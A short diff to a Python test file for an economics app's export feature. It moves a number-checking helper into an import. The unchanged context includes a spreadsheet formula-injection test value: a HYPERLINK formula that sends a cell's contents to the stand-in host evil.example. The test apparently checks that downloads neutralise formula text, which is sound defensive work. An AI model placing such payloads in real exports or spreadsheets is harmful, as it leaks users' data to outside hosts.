@@ -21,6 +21,7 @@ from econ.text import FORMULA_PREFIXES
 from econ.ui import form, state
 from econ.ui.form import find
 from tests.test_app import APP, errors, go, widget
+from tests.test_export import _is_number
 
 FORMULA_NAME = '=HYPERLINK("https://evil.example/?"&C3,"Open")&(A1'
 OTHER = next(n for n in sorted(ready_made_scenarios()) if n != DEFAULT_SCENARIO)
@@ -39,14 +40,6 @@ def open_app(edits: dict | None = None, page: str | None = None) -> AppTest:
 
 
 # --- 1. formula text in the Compare page's downloads ----------------------------------------------
-
-
-def _is_number(text: str) -> bool:
-    try:
-        float(text)
-    except ValueError:
-        return False
-    return True
 
 
 def _formula_fields(text: str) -> list[str]:
